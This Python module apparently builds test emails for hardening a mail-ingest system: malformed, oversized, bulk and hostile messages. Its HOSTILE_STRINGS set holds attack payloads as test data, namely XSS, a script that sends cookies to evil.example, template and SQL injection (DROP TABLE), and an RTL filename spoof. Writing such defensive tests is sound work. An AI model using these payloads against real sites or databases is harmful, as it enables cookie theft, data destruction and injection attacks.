"""Generators of broken, hostile and bulk mail for the hardening tests.

Every generator returns ``Case`` records: a short name, the raw bytes exactly as they will sit on
the server, and what a correct ingest must make of them. Each message carries a unique token
(``X-Case`` header or in the body) so that no two cases are byte-identical by accident: a test that
expects N stored rows really needs N distinct messages.

Nothing here is copied from real mail; the texts are written for these tests.
"""

from __future__ import annotations

import base64
import os
import random
import sys
import sysconfig
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path

CRLF = b"\r\n"


@dataclass(frozen=True)
class Case:
    """One message for a test: its name, raw bytes, and what ingest must keep of it."""

    name: str
    raw: bytes
    #: Expected ``subject`` column when the test checks it verbatim (None: not checked).
    subject: str | None = None
    #: Expected ``from_name`` column when checked.
    from_name: str | None = None
    #: A substring the stored plain-text body must contain.
    body_contains: str | None = None
    #: True when the stored row must say something went wrong (parse_error or defects).
    expect_trouble: bool = False
    extra: dict[str, object] = field(default_factory=dict)


def crlf(text: bytes) -> bytes:
    """Normalise line ends to CRLF (IMAP servers serve what they store; Dovecot expects CRLF)."""
    return text.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def _headers(token: str, subject: str | bytes = "test", extra: list[bytes] | None = None,
             date: str | None = "Mon, 03 Nov 2025 09:15:00 +0000",
             message_id: str | None = None,
             from_: bytes = b"Hardening Sender <sender@example.org>") -> bytes:
    subj = subject if isinstance(subject, bytes) else subject.encode()
    lines = [
        b"From: " + from_,
        b"To: candidate@example.net",
        b"Subject: " + subj,
        b"X-Case: " + token.encode(),
    ]
    if date is not None:
        lines.append(b"Date: " + date.encode())
    lines.append(b"Message-ID: " + (message_id or f"<{token}@hardening.test>").encode())
    lines.extend(extra or [])
    return CRLF.join(lines) + CRLF


# -- the CPython email test corpus ----------------------------------------------------------------


def cpython_email_corpus_dir() -> Path | None:
    """The folder of CPython's email test messages (msg_NN.txt), if any Python here ships it.

    Debian ships it in ``libpython3.11-testsuite``; pyenv builds include it. Looked up beside the
    running interpreter's stdlib first (the venv's base), then under the usual install roots.
    """
    roots = [Path(sysconfig.get_paths()["stdlib"]), Path(sys.base_prefix) / "lib" / "python3.11"]
    roots += [Path(f"/usr/lib/python3.{n}") for n in (11, 12, 13)]
    for root in roots:
        data = root / "test" / "test_email" / "data"
        if any(data.glob("msg_*.txt")):
            return data
    return None


def cpython_corpus() -> list[Case]:
    """Every msg_*.txt of CPython's email tests, CRLF line ends, tagged so each is distinct."""
    folder = cpython_email_corpus_dir()
    if folder is None:
        return []
    cases = []
    for path in sorted(folder.glob("msg_*.txt")):
        raw = crlf(path.read_bytes())
        # Prepend a trace header: keeps the message valid and makes its bytes unique to this test.
        raw = b"X-Case: cpython-" + path.stem.encode() + CRLF + raw
        cases.append(Case(f"cpython/{path.name}", raw))
    return cases


# -- generated breakage ---------------------------------------------------------------------------


def broken_cases(token: str, big_subject_bytes: int = 1_000_000) -> list[Case]:
    """Messages real mailboxes contain sooner or later, each broken in one way."""
    t = token
    cases: list[Case] = []

    cases.append(Case("no-headers", f"just a body line, no header at all {t}-nohdr\r\nsecond line\r\n"
                      .encode(), expect_trouble=True))
    cases.append(Case("empty-body-only-blank", f"\r\n\r\n{t}-blank\r\n".encode()))
    garbage = random.Random(7).randbytes(4096)
    cases.append(Case("garbage-bytes", f"{t}-garbage\r\n".encode() + garbage.replace(b"\r", b"")
                      .replace(b"\n", b"\r\n"), expect_trouble=True))
    cases.append(Case(
        "nul-bytes",
        _headers(f"{t}-nul", b"NUL\x00inside subject", [b"X-Nul: a\x00b"])
        + CRLF + b"body with \x00 NUL \x00\x00 bytes " + t.encode() + b"-nulbody" + CRLF,
        body_contains=f"{t}-nulbody",
    ))
    cases.append(Case(
        "unknown-charset",
        _headers(f"{t}-charset", "=?x-no-such-charset?Q?caf=E9?=",
                 [b"MIME-Version: 1.0", b"Content-Type: text/plain; charset=x-no-such-charset",
                  b"Content-Transfer-Encoding: 8bit"])
        + CRLF + b"caf\xe9 na\xefve " + t.encode() + b"-unkcs" + CRLF,
        body_contains=f"{t}-unkcs",
    ))
    cases.append(Case(
        "wrong-charset",  # says us-ascii, is Latin-1 and invalid UTF-8
        _headers(f"{t}-wrongcs", "=?us-ascii?Q?r=E9sum=E9?=",
                 [b"MIME-Version: 1.0", b"Content-Type: text/plain; charset=us-ascii"])
        + CRLF + b"r\xe9sum\xe9 attached \xff\xfe " + t.encode() + b"-wrongcs" + CRLF,
        body_contains=f"{t}-wrongcs",
    ))
    cases.append(Case(
        "bad-encoded-word-from",  # mail-parser's HeaderParseError path (STACK.md)
        _headers(f"{t}-badfrom", "bad encoded word in From",
                 from_=b"=?utf-8?B?broken===?= =?utf-8?Q?=ZZ?= <x@example.org>")
        + CRLF + f"body {t}-badfrom".encode() + CRLF,
    ))
    payload = base64.b64encode(os.urandom(3000)).decode()
    truncated = "\r\n".join(payload[i:i + 76] for i in range(0, 1500, 76))[:-3]  # cut mid-quad
    cases.append(Case(
        "truncated-base64",
        _headers(f"{t}-b64", "truncated attachment",
                 [b"MIME-Version: 1.0", b'Content-Type: multipart/mixed; boundary="BND"'])
        + CRLF + b"--BND\r\nContent-Type: text/plain\r\n\r\nsee attachment " + t.encode()
        + b"-b64\r\n--BND\r\nContent-Type: application/pdf; name=cv.pdf\r\n"
        b"Content-Disposition: attachment; filename=cv.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + truncated.encode() + CRLF,  # no closing boundary either
        body_contains=f"{t}-b64", expect_trouble=True,
    ))
    cases.append(Case(
        "nested-100-deep", _nested(f"{t}-nest", 100), body_contains=f"{t}-nest-leaf",
    ))
    cases.append(Case(
        "huge-subject",
        _headers(f"{t}-bigsubj", ("S" * 70 + "\r\n ") * (big_subject_bytes // 73) + "end")
        + CRLF + f"body {t}-bigsubj".encode() + CRLF,
        body_contains=f"{t}-bigsubj", extra={"subject_bytes": big_subject_bytes},
    ))
    shared_id = f"<shared-{t}@hardening.test>"
    for n in (1, 2):
        cases.append(Case(
            f"shared-message-id-{n}",
            _headers(f"{t}-shared{n}", f"shared id, message {n}", message_id=shared_id)
            + CRLF + f"different body number {n} {t}-shared{n}".encode() + CRLF,
            subject=f"shared id, message {n}", extra={"message_id": shared_id},
        ))
    cases.append(Case(
        "no-date", _headers(f"{t}-nodate", "no date header", date=None)
        + CRLF + f"body {t}-nodate".encode() + CRLF, subject="no date header",
        extra={"header_date": None},
    ))
    cases.append(Case(
        "far-future-date", _headers(f"{t}-future", "from the future",
                                    date="Fri, 31 Dec 9999 23:59:59 +0000")
        + CRLF + f"body {t}-future".encode() + CRLF, subject="from the future",
    ))
    cases.append(Case(
        "overflowing-date", _headers(f"{t}-overflow", "date past datetime.max in UTC",
                                     date="Fri, 31 Dec 9999 23:59:59 -1200")
        + CRLF + f"body {t}-overflow".encode() + CRLF,
    ))
    cases.append(Case(
        "nonsense-date", _headers(f"{t}-baddate", "nonsense date", date="yesterday-ish, 99 Foo 12")
        + CRLF + f"body {t}-baddate".encode() + CRLF, subject="nonsense date",
    ))
    cases.append(Case(
        "header-only-no-blank-line",
        b"Subject: headers and nothing else" + CRLF + b"X-Case: " + t.encode() + b"-hdronly" + CRLF,
    ))
    cases.append(Case(
        "bare-lf-and-8bit-headers",
        (f"From: J\xf6rg <j@example.org>\nSubject: 8bit \xfcml\xe4ut\nX-Case: {t}-8bit\n\nbody\n"
         ).encode("latin-1"),
    ))
    return cases


def _nested(token: str, depth: int) -> bytes:
    """A multipart/mixed tree ``depth`` levels deep with one text leaf at the bottom."""
    out = [_headers(token, f"nested {depth} deep", [b"MIME-Version: 1.0",
                                                    b'Content-Type: multipart/mixed; boundary="b0"'])
           + CRLF]
    for level in range(depth):
        out.append(f"--b{level}\r\n".encode())
        if level + 1 < depth:
            out.append(f'Content-Type: multipart/mixed; boundary="b{level + 1}"\r\n\r\n'.encode())
        else:
            out.append(f"Content-Type: text/plain\r\n\r\n{token}-leaf\r\n".encode())
    for level in reversed(range(depth)):
        out.append(f"--b{level}--\r\n".encode())
    return b"".join(out)


def big_attachment(token: str, megabytes: int = 25) -> Case:
    """A message with a ``megabytes`` MB binary attachment (base64 on the wire: ~1.37x larger)."""
    rng = random.Random(token)
    blob = rng.randbytes(megabytes * 1024 * 1024)
    b64 = base64.encodebytes(blob).replace(b"\n", b"\r\n")
    raw = (
        _headers(f"{token}-big", f"{megabytes} MB attachment",
                 [b"MIME-Version: 1.0", b'Content-Type: multipart/mixed; boundary="BIG"'])
        + CRLF + b"--BIG\r\nContent-Type: text/plain\r\n\r\nportfolio attached " + token.encode()
        + b"-big\r\n--BIG\r\nContent-Type: application/octet-stream; name=portfolio.bin\r\n"
        b"Content-Disposition: attachment; filename=portfolio.bin\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + b64 + b"--BIG--\r\n"
    )
    return Case("attachment-25mb", raw, subject=f"{megabytes} MB attachment",
                body_contains=f"{token}-big")


# -- hostile content --------------------------------------------------------------------------------

#: Strings that must survive storage verbatim and come out escaped in HTML.
HOSTILE_STRINGS: dict[str, str] = {
    "html": '<b>Offer</b> <img src=x onerror="alert(1)"> & <a href="javascript:alert(2)">click</a>',
    "script": "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "template": "{{ 7*7 }} {% for x in range(3) %}loop{% endfor %} {{ config.items() }} ${7*7}",
    "sql": "Robert'); DROP TABLE mail;-- ' OR '1'='1; SELECT * FROM runs; --",
    "rtl": "Invoice \u202egnp.exe\u202c and \u200fשלום\u200e mixed",
}


def hostile_cases(token: str) -> list[Case]:
    """One message per hostile string: in the subject, the sender's display name and the body.

    Headers use RFC 2047 (UTF-8, base64) so any byte sequence is legal on the wire; what must be
    stored is the decoded text, byte for byte.
    """
    cases = []
    for i, (kind, text) in enumerate(HOSTILE_STRINGS.items()):
        enc = "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="
        body = (f"Hello,\r\n\r\nThank you for applying. {text}\r\n\r\nWe would like to invite you "
                f"to an interview next week.\r\nRef {token}-{kind}\r\n")
        raw = (
            f"From: {enc} <talent{i}@hostile-{kind}.example>\r\n"
            f"To: candidate@example.net\r\nSubject: {enc}\r\n"
            f"Date: Tue, 04 Nov 2025 10:0{i}:00 +0000\r\n"
            f"Message-ID: <{token}-{kind}@hostile.test>\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        ).encode() + body.encode()
        cases.append(Case(f"hostile-{kind}", raw, subject=text, from_name=text,
                          body_contains=text, extra={"kind": kind}))
    return cases


# -- bulk mail --------------------------------------------------------------------------------------

_WORDS = ("application", "interview", "schedule", "team", "role", "update", "thanks", "process",
          "engineer", "next", "week", "call", "position", "candidate", "review", "offer", "notes")


def bulk_messages(token: str, count: int, seed: int = 1) -> list[bytes]:
    """``count`` distinct ordinary messages (1-4 KB) dated over the last year."""
    rng = random.Random(seed)
    start = datetime(2025, 1, 6, 8, 0, tzinfo=UTC)
    out = []
    for n in range(count):
        when = start + timedelta(minutes=97 * n)
        words = " ".join(rng.choice(_WORDS) for _ in range(rng.randint(150, 600)))
        body = "\r\n".join(words[i:i + 72] for i in range(0, len(words), 72))
        out.append(
            (f"From: Recruiter {n % 37} <hr{n % 37}@company{n % 53}.example>\r\n"
             f"To: candidate@example.net\r\nSubject: {rng.choice(_WORDS).title()} {n}\r\n"
             f"Date: {format_datetime(when)}\r\nMessage-ID: <{token}-{n}@bulk.test>\r\n"
             f"X-Case: {token}-{n}\r\n\r\n{body}\r\n").encode()
        )
    return out


def mixed_flags(count: int) -> list[list[str]]:
    """Flags for ``count`` loaded messages: unread, read, flagged, answered and a keyword, mixed,
    so a read-only check can see both a flag set by mistake (\\Seen) and a flag cleared."""
    out = []
    for n in range(count):
        flags = []
        if n % 3 == 0:
            flags.append("\\Seen")
        if n % 5 == 0:
            flags.append("\\Flagged")
        if n % 7 == 0:
            flags.append("\\Answered")
        if n % 11 == 0:
            flags.append("$Interview")
        out.append(flags)
    return out
